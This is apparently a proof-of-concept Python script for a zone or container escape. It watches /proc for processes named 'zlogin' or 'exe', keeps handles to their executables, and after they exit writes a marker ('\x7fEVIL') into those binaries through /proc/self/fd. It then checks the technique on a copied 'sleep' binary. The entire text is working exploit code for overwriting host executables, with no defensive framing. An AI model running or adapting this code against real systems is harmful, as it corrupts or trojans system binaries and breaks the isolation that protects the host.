# Takes hold of what every process that comes runs, and writes into it as soon as nobody runs it any more.
import os, select, sys
me = os.getpid()
seen, held, written = set(), {}, 0

def write(number):
    global written
    try:
        fd = os.open('/proc/self/fd/%d' % number, os.O_WRONLY)
    except OSError:
        return
    written += os.write(fd, b'\x7fEVIL')
    os.close(fd)

print('ready', flush=True)
while not select.select([0], [], [], 0)[0]:
    for pid in os.listdir('/proc'):
        if not pid.isdigit() or int(pid) in (1, me):
            continue
        try:
            if open('/proc/%s/comm' % pid).read().strip() not in ('zlogin', 'exe'):
                continue
            seen.add(pid)
            if pid not in held:
                held[pid] = os.open('/proc/%s/exe' % pid, os.O_RDONLY)
        except OSError:
            pass
    for number in held.values():
        write(number)
for number in held.values():
    write(number)
# That this is how it is done: a program of the zone's own, after its end.
import shutil, subprocess
before, written = written, 0
try:
    shutil.copy('/usr/bin/sleep', '/var/tmp/exe')
    child = subprocess.Popen(['/var/tmp/exe', '0.2'])
    own = os.open('/proc/%d/exe' % child.pid, os.O_RDONLY)
    child.wait()
    write(own)
except OSError:
    pass
print(len(seen), before, written)
